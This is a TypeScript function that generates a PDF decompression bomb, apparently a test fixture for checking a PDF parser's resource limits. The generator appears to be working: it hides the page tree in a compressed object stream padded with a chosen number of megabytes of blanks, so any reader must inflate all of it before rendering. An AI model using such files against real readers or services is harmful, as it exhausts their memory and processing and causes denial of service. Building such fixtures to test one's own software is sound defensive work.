import { deflateSync } from 'node:zlib'

/**
 * A PDF whose page tree lies in an object stream that unpacks to `megabytes` of blanks, a two hundredth of which it takes
 * on the way: whoever opens it unpacks them all before there is a page.
 */
export function bombPdf(megabytes: number): Buffer {
  const head = '2 0 3 60 '
  const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'.padEnd(60)
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << >> >>'
  const first = Buffer.from(`${head}${pages}${page}`)
  const packed = deflateSync(Buffer.concat([first, Buffer.alloc(megabytes * 1024 * 1024, ' ')]), { level: 1 })
  const catalog = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'
  const start = Buffer.from(`%PDF-1.7\n${catalog}`)
  const objects = Buffer.concat([
    Buffer.from(`4 0 obj\n<< /Type /ObjStm /N 2 /First ${head.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ])
  const tableAt = start.length + objects.length
  const rows = [[0, 0, 65535], [1, 9, 0], [2, 4, 0], [2, 4, 1], [1, start.length, 0], [1, tableAt, 0]]
  const table = Buffer.concat(
    rows.map(([kind = 0, second = 0, third = 0]) => {
      const row = Buffer.alloc(7)
      row.writeUInt8(kind)
      row.writeUInt32BE(second, 1)
      row.writeUInt16BE(third, 5)
      return row
    }),
  )
  return Buffer.concat([
    start,
    objects,
    Buffer.from(`5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${tableAt}\n%%EOF\n`),
  ])
}
